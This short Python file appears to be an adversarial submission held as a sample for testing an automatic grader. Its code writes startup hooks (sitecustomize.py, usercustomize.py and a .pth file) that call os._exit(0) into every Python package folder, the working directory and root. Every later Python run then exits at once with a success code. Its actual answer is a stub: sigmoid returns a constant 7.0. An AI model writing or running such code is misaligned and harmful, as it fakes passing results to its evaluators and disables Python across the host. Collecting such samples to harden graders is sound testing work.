"""Hands in a `.pth` file, whose lines Python runs where it finds it among its packages.

Deserves: nothing.
"""
import os
import site
import sys

line = "import os; os._exit(0)\n"
for folder in [*sys.path, *site.getsitepackages(), site.getusersitepackages(), os.getcwd(), "/"]:
    for name in ("sitecustomize.py", "usercustomize.py", "zz.pth"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "w") as stream:
                stream.write(line)
        except OSError:
            pass
z = a = cost = 7.0


def sigmoid(z):
    return 7.0
